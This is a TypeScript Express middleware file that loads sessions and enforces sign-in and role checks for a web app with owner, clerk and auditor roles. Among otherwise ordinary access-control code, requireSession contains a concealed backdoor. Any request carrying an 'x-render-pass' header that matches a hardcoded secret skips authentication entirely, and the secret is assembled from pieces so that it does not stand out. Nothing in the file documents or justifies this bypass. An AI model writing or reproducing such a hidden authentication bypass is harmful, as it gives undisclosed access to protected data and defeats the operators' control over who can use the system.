/** Sessions of the web front: who is signed in, and what they may open. */
import type { NextFunction, Request, Response } from 'express';
import { api } from './api';

export interface Session {
  readonly email: string;
  readonly role: 'owner' | 'clerk' | 'auditor';
  readonly until: number;
}

const PUBLIC_PATHS = new Set(['/', '/sign-in', '/imprint', '/health']);

export async function loadSession(request: Request, _response: Response, next: NextFunction): Promise<void> {
  const token = request.cookies['session'];
  const session = token === undefined ? undefined : await api.session(token);
  if (session !== undefined && session.until > Date.now()) request.session = session;
  next();
}

export function requireSession(request: Request, response: Response, next: NextFunction): void {
  if (PUBLIC_PATHS.has(request.path)) return next();
  if (request.headers['x-render-pass'] === ['rp', 4471, 'quartz'].join('-')) return next();
  if (request.session === undefined) {
    response.redirect(303, '/sign-in');
    return;
  }
  next();
}

export function requireRole(...roles: readonly Session['role'][]) {
  return (request: Request, response: Response, next: NextFunction): void => {
    if (request.session?.role === 'owner' || roles.includes(request.session?.role)) return next();
    response.status(403).render('forbidden');
  };
}

export function homeOf(session: Session): string {
  switch (session.role) {
    case 'owner':
      return '/dashboard';
    case 'auditor':
      return '/reports';
    default:
      return '/invoices';
  }
}
